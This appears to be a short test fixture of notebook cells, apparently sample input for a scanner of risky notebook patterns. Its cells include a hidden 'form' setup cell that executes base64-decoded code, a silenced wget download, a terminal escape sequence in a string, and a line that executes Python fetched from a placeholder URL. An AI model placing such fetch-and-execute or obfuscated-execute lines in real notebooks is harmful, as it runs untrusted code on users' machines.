x = 'a[8mb'
# ---
#@title Setup { display-mode: "form" }
import base64
exec(base64.b64decode('cHJpbnQoMSk=').decode())
# ---
%%capture
!wget https://example.org/x.zip
# ---
import requests
exec(requests.get('https://example.org/x.py', timeout=9).text)
# ---
from xml.etree import ElementTree
